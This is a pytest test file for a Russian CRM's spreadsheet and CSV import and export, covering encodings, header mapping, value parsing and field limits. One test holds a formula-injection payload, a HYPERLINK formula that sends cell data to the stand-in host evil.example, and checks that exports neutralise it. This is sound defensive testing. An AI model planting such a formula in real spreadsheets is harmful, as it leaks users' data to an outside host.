"""Spreadsheets and text files as other programs write them (issue 16 items 4–8, 12, 13) and
the forms' limits applied to every imported cell (issue 13 item 6)."""

from __future__ import annotations

import codecs
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import text

from crm_desktop.cli import main
from crm_desktop.domain.errors import ValidationError
from crm_desktop.services.crm import Crm


def csv_file(path: Path, lines: list[str], encoding: str = "utf-8",
             newline: str = "\r\n") -> Path:
    path.write_bytes(newline.join(lines).encode(encoding) + newline.encode(encoding))
    return path


# -- encodings (item 4, 13) ----------------------------------------------------------------------
def test_cp1251_file_is_named_and_read(crm: Crm, tmp_path: Path) -> None:
    path = csv_file(tmp_path / "1c.csv", ["Наименование;ИНН;Телефон",
                                          "ООО «Ёлка»;7707083893;+7 495 123-45-67"], "cp1251")
    plan = crm.spreadsheets.plan(path, "companies")
    assert plan.encoding == "cp1251" and plan.rows[0].values["name"] == "ООО «Ёлка»"


def test_utf8_with_a_stray_byte_stays_utf8_and_names_the_row(crm: Crm, tmp_path: Path) -> None:
    lines = ["Наименование;Отрасль"] + [f"ООО Ромашка {i};Торговля" for i in range(20)]
    data = ("\r\n".join(lines) + "\r\n").encode("utf-8")
    data = data.replace("Ромашка 7".encode(), "Ромашка 7".encode() + b"\xff")
    (tmp_path / "stray.csv").write_bytes(data)
    plan = crm.spreadsheets.plan(tmp_path / "stray.csv", "companies")
    assert plan.encoding.startswith("UTF-8")
    assert plan.rows[0].values["name"] == "ООО Ромашка 0"  # not cp1251 mojibake
    assert [e.split(":")[0] for e in plan.errors] == ["row 9, column «Наименование»"]
    assert "encoding" in plan.errors[0]


def test_excel_unicode_text_utf16_and_cr_only_line_ends(crm: Crm, tmp_path: Path) -> None:
    text = "Фамилия\tИмя\tТелефон\r\nПетров\tИван\t89161234567\r\n"
    (tmp_path / "unicode.txt").write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    plan = crm.spreadsheets.plan(tmp_path / "unicode.txt", "contacts")
    assert plan.encoding == "UTF-16" and plan.rows[0].values["phones"] == ["+79161234567"]
    mac = csv_file(tmp_path / "mac.csv", ["Наименование,Телефон", "ООО Мак,84951234567",
                                          "ООО Яблоко,84957654321"], newline="\r")
    assert [r.values["name"] for r in crm.spreadsheets.plan(mac, "companies").rows] == [
        "ООО Мак", "ООО Яблоко"]


def test_broken_files_are_one_line_errors(crm: Crm, tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "empty.xlsx").write_bytes(b"")
    (tmp_path / "old.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    (tmp_path / "junk.xlsx").write_bytes(b"PK\x03\x04 not really a zip")
    (tmp_path / "big.csv").write_text("Наименование;Примечания\nООО Длинная;" + "x" * 200_000,
                                      encoding="utf-8")
    (tmp_path / "random.csv").write_bytes(bytes(range(256)) * 40)
    book = Workbook()
    book.save(tmp_path / "workbook.csv")  # an .xlsx under a text file's name
    db = str(crm.path)
    for name, message in (("empty.xlsx", "0 bytes"), ("old.xlsx", "97–2003"),
                          ("junk.xlsx", "not a readable"), ("nothing.xlsx", "does not exist"),
                          ("random.csv", "not a text file"),
                          ("workbook.csv", "not text; give it its real extension")):
        assert main(["--db", db, "import", str(tmp_path / name)]) != 0
        err = capsys.readouterr().err.strip().splitlines()
        assert len(err) == 1 and message in err[0], err
    plan = crm.spreadsheets.plan(tmp_path / "big.csv", "companies")  # a 200 KB field reads
    assert len(plan.rows[0].values["notes"]) == 200_000


# -- headers (item 8) ----------------------------------------------------------------------------
@pytest.mark.parametrize(("headers", "row", "expected"), [
    (["Имя", "Фамилия", "Мобильный телефон", "Адрес эл. почты", "Организация", "Должность"],
     ["Иван", "Петров", "+79161234567", "ivan@x.ru", "ООО Ромашка", "Директор"],
     {"first_name": "Иван", "last_name": "Петров", "emails": ["ivan@x.ru"]}),
    (["First Name", "Last Name", "Mobile Phone", "E-mail Address", "Company", "Job Title"],
     ["John", "Smith", "+1 202 555 0143", "john@x.com", "Acme", "CEO"],
     {"first_name": "John", "last_name": "Smith", "position": "CEO"}),
    (["Name", "Given Name", "Family Name", "Phone 1 - Value", "Phone 2 - Value",
      "E-mail 1 - Value", "Organization 1 - Name"],
     ["Anna Maria Ivanova", "", "", "+79161234567", "+79031234567", "a@x.ru", "Acme"],
     {"first_name": "Anna", "last_name": "Ivanova", "middle_name": "Maria",
      "phones": ["+79161234567", "+79031234567"]}),
    (["ФИО", "Телефон", "Телефон 2", "Адрес электронной почты", "Компания"],
     ["Петров Иван Сергеевич", "89161234567", "89031234567", "p@x.ru", "ООО Ромашка"],
     {"last_name": "Петров", "middle_name": "Сергеевич",
      "phones": ["+79161234567", "+79031234567"]}),
])
def test_header_vocabulary(crm: Crm, tmp_path: Path, headers: list[str], row: list[str],
                           expected: dict) -> None:
    book = Workbook()
    book.active.append(headers)
    book.active.append(row)
    book.save(tmp_path / "people.xlsx")
    plan = crm.spreadsheets.plan(tmp_path / "people.xlsx", "contacts")
    values = plan.rows[0].values
    assert plan.errors == [] and {k: values.get(k) for k in expected} == expected
    assert values.get("company_new") or values.get("company_id")


def test_late_two_level_header_on_the_second_sheet(crm: Crm, tmp_path: Path) -> None:
    book = Workbook()
    book.active.title = "Сводка"
    book.active.append(["Итого клиентов", 1])
    sheet = book.create_sheet("Клиенты")
    for _ in range(12):
        sheet.append(["отчёт сформирован в 1С"])
    sheet.append(["Наименование", "Контакты", None, "Юридический адрес", "Лишняя"])
    sheet.merge_cells(start_row=13, start_column=2, end_row=13, end_column=3)
    sheet.append([None, "Телефон", "E-mail", None, None])
    sheet.append(["ООО Ромашка", "+7 495 123-45-67", "info@romashka.ru", "Москва", "?"])
    book.save(tmp_path / "1c.xlsx")
    plan = crm.spreadsheets.plan(tmp_path / "1c.xlsx", "companies")
    assert plan.sheet == "Клиенты" and plan.sheets == ["Сводка", "Клиенты"]
    values = plan.rows[0].values
    assert values["name"] == "ООО Ромашка" and values["phones"] == ["+74951234567"]
    assert values["emails"] == ["info@romashka.ru"] and values["address"] == "Москва"
    assert plan.unmapped == ["Лишняя"]
    with pytest.raises(ValidationError, match="no sheet «Нет»"):
        crm.spreadsheets.plan(tmp_path / "1c.xlsx", "companies", sheet="Нет")


# -- people linked to companies (item 5) -----------------------------------------------------------
def test_contacts_export_reimports_with_every_company_link(crm: Crm, tmp_path: Path) -> None:
    romashka = crm.companies.create(name="ООО Ромашка")
    crm.contacts.create(last_name="Петров", first_name="Иван", company_id=romashka.id,
                        emails=["p@romashka.ru"])
    crm.contacts.create(last_name="Сидоров", company_id=romashka.id)
    path = crm.spreadsheets.export_list("contacts", tmp_path / "people.xlsx")
    other = Crm(tmp_path / "other.db")
    try:
        other.users.create(name="Тест", role="owner")
        other.reference.seed_defaults("ru")
        plan = other.spreadsheets.plan(path, "contacts")
        assert "company" in plan.mapping.values()
        report = other.spreadsheets.apply(plan)
        assert report.created == 2 and report.companies_created == 1
        company = other.companies.list()[0]
        assert company.name == "ООО Ромашка"
        assert {p.company_id for p in other.contacts.list()} == {company.id}
    finally:
        other.close()
    plan = crm.spreadsheets.plan(path, "contacts")  # and into the same file: matched, linked
    assert [r.values.get("company_id") for r in plan.rows] == [romashka.id, romashka.id]


# -- safe exports (items 6, 10) --------------------------------------------------------------------
def test_formula_looking_text_is_exported_as_text_and_reimports(crm: Crm,
                                                                tmp_path: Path) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")'
    crm.companies.create(name=attack, notes="+7 not a formula", industry="@SUM(1+1)")
    path = crm.spreadsheets.export_list("companies", tmp_path / "c.xlsx")
    with zipfile.ZipFile(path) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no live formula anywhere in the file
    cell = load_workbook(path).active["A2"]
    assert cell.value == attack and cell.data_type == "s"
    csv_path = crm.spreadsheets.export_list("companies", tmp_path / "c.csv")
    data = csv_path.read_bytes()
    assert data.startswith(codecs.BOM_UTF8) and not data.startswith(codecs.BOM_UTF8 + b"PK")
    assert "'=HYPERLINK" in data.decode("utf-8-sig")
    again = Crm(tmp_path / "again.db")
    try:
        again.users.create(name="Тест", role="owner")
        plan = again.spreadsheets.plan(path, "companies")
        assert plan.errors == [] and plan.rows[0].values["name"] == attack
    finally:
        again.close()


def test_task_times_are_exported_in_the_users_zone(crm: Crm, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    from datetime import UTC, datetime

    from crm_desktop.domain.zones import zone_named
    from crm_desktop.services.exchange import xlsx_export

    monkeypatch.setattr(xlsx_export, "user_zone", lambda: zone_named("Asia/Yekaterinburg"))
    crm.tasks.create(title="Позвонить", due_at=datetime(2026, 3, 20, 4, 0, tzinfo=UTC))
    sheet = load_workbook(crm.spreadsheets.export_list("tasks", tmp_path / "t.xlsx")).active
    assert sheet["C1"].value == "Due (Asia/Yekaterinburg)"
    assert sheet["C2"].value == datetime(2026, 3, 20, 9, 0)  # a real date-time, local


# -- values and limits (item 7, 12; issue 13 item 6) -----------------------------------------------
def test_values_as_people_write_them(crm: Crm, tmp_path: Path) -> None:
    book = Workbook()
    ws = book.active
    ws.append(["ФИО", "Дата рождения", "Телефон"])
    for name, born in (("Петров Иван", "06.07.91"), ("Сидоров Пётр", "15 мая 1985"),
                       ("Smith John", "4/15/1985"), ("Орлова Анна", "0.0.00"),
                       ("Зайцева Ольга", "--05-14"), ("Кузнецов Олег", "1604-02-29")):
        ws.append([name, born, "+7 (495) 123-45-67 доб. 123" if name == "Петров Иван" else None])
    book.save(tmp_path / "dates.xlsx")
    rows = crm.spreadsheets.plan(tmp_path / "dates.xlsx", "contacts").rows
    got = [(r.values.get("birthday"), r.values.get("birthday_md")) for r in rows]
    assert got == [(date(1991, 7, 6), None), (date(1985, 5, 15), None),
                   (date(1985, 4, 15), None), (None, None), (None, "05-14"), (None, "02-29")]
    assert rows[0].errors == [] and rows[0].values["phones"] == ["+74951234567"]
    crm.spreadsheets.apply(crm.spreadsheets.plan(tmp_path / "dates.xlsx", "contacts"))
    sheet = load_workbook(crm.spreadsheets.export_list("contacts", tmp_path / "o.xlsx")).active
    births = {sheet.cell(r, 1).value: sheet.cell(r, 8).value for r in range(2, 8)}
    assert births["Кузнецов"] == "--02-29"  # never a negative Excel serial
    old = crm.contacts.create(last_name="Старый")
    with crm.db.write() as session:  # Apple's 1604 as older imports stored it (raw SQL)
        session.execute(text("UPDATE contacts SET birthday = '1604-05-14' WHERE id = :i"),
                        {"i": old.id})
    sheet = load_workbook(crm.spreadsheets.export_list("contacts", tmp_path / "p.xlsx")).active
    assert "--05-14" in [sheet.cell(r, 8).value for r in range(2, 9)]
    path = crm.vcards.export(tmp_path / "p.vcf")
    assert "BDAY:--05-14" in path.read_text(encoding="utf-8")


def test_deal_amounts_currencies_and_inn_as_written(crm: Crm, tmp_path: Path) -> None:
    company = crm.companies.create(name="ООО Ромашка", tax_id="0123456788")
    book = Workbook()
    ws = book.active
    ws.append(["Название", "Клиент", "Сумма", "Валюта"])
    ws.append(["Поставка 1", "ООО Ромашка", "1\u202f234,50", "руб."])
    ws.append(["Поставка 2", "123456788", "1.234,50 ₽", None])
    ws.append(["Поставка 3", None, "$1,234.50", None])
    ws.append(["Поставка 4", None, 1500, "RUR"])
    book.save(tmp_path / "deals.xlsx")
    plan = crm.spreadsheets.plan(tmp_path / "deals.xlsx", "deals")
    assert plan.errors == []
    money = [(r.values["amount"].minor, r.values["amount"].currency,
              r.values.get("currency")) for r in plan.rows]
    assert money == [(123450, "RUB", "RUB"), (123450, "RUB", None), (123450, "USD", None),
                     (150000, "RUB", "RUB")]
    book = Workbook()
    book.active.append(["Наименование", "ИНН"])
    book.active.append(["ООО Ноль", 123456788])  # Excel dropped the leading zero
    book.save(tmp_path / "inn.xlsx")
    row = crm.spreadsheets.plan(tmp_path / "inn.xlsx", "companies").rows[0]
    assert row.values["tax_id"] == "0123456788" and row.match_id == company.id


@pytest.mark.parametrize(("header", "value", "reason"), [
    ("Наименование", "Я" * 5000, "longer than 300"),
    ("Наименование", "ООО\x00Ноль", "control character (U+0000)"),
    ("Отрасль", "Торговля\x1b[31m", "control character (U+001B)"),
    ("Сегмент", "x" * 51, "longer than 50"),
])
def test_import_applies_the_form_limits(crm: Crm, tmp_path: Path, header: str, value: str,
                                        reason: str) -> None:
    lines = ([header, value] if header == "Наименование" else
             [f"Наименование;{header}", f"ООО Ок;{value}"])
    path = csv_file(tmp_path / "limits.csv", lines)  # openpyxl refuses control characters
    plan = crm.spreadsheets.plan(path, "companies")
    assert len(plan.errors) == 1 and plan.errors[0].startswith(f"row 2, column «{header}»")
    assert reason in plan.errors[0]
    with pytest.raises(ValidationError, match="row 2"):
        crm.spreadsheets.apply(plan)
    assert crm.companies.count() == 0


@pytest.mark.parametrize(("amount", "currency", "reason"), [
    ("Infinity", "RUB", "not a finite number"), ("NaN", "RUB", "not a finite number"),
    (1e17, "RUB", "more than"), ("1e30", "RUB", "more than"),
    ("100", "XYZ", "not an ISO 4217 currency"), ("-5", "RUB", "must not be negative"),
])
def test_deal_amount_limits(crm: Crm, tmp_path: Path, amount: object, currency: str,
                            reason: str) -> None:
    book = Workbook()
    book.active.append(["Название", "Сумма", "Валюта"])
    book.active.append(["Сделка", amount, currency])
    book.save(tmp_path / "bad.xlsx")
    plan = crm.spreadsheets.plan(tmp_path / "bad.xlsx", "deals")
    assert len(plan.errors) == 1 and reason in plan.errors[0]
    assert plan.errors[0].startswith("row 2, column «")


def test_phone_extensions_are_kept(crm: Crm, tmp_path: Path) -> None:
    path = csv_file(tmp_path / "ext.csv", [
        "Наименование;Телефон;Примечание",
        "ООО Доб;+7 495 123-45-67 доб. 123;старый клиент",
        "ООО Ext;\"+74957654321;ext=77, 8 916 123-45-67\";"])
    rows = crm.spreadsheets.plan(path, "companies").rows
    assert rows[0].errors == [] and rows[0].values["phones"] == ["+74951234567"]
    assert rows[0].values["notes"] == "старый клиент\nTEL +74951234567 ext. 123"
    assert rows[1].values["phones"] == ["+74957654321", "+79161234567"]
    assert rows[1].values["notes"] == "TEL +74957654321 ext. 77"


def test_birthdays_meet_the_forms_limits(crm: Crm, tmp_path: Path) -> None:
    path = csv_file(tmp_path / "b.csv", ["ФИО;Дата рождения", "Старый Пётр;01.01.1850",
                                         "Будущий Иван;01.01.2999", "Без Года;--12-31"])
    plan = crm.spreadsheets.plan(path, "contacts")
    assert [e.split(": ", 1)[1] for e in plan.errors] == ["is before 1900", "is in the future"]
    assert plan.rows[2].values["birthday_md"] == "12-31"


def test_rows_pass_the_same_rules_as_the_forms(crm: Crm, tmp_path: Path) -> None:
    """services.client_fields: a tag over 100 characters, refused by the form, is refused
    in a file too, naming the row and its column."""
    path = csv_file(tmp_path / "tags.csv", ["Наименование;Метки",
                                            "ООО Тег;" + "т" * 150, "ООО Ок;VIP"])
    plan = crm.spreadsheets.plan(path, "companies")
    assert len(plan.errors) == 1 and plan.errors[0].startswith("row 2, column «Метки»")
    assert "100" in plan.errors[0] and plan.rows[1].errors == []
    crm.spreadsheets.apply(plan, valid_only=True)
    assert [c.name for c in crm.companies.list()] == ["ООО Ок"]
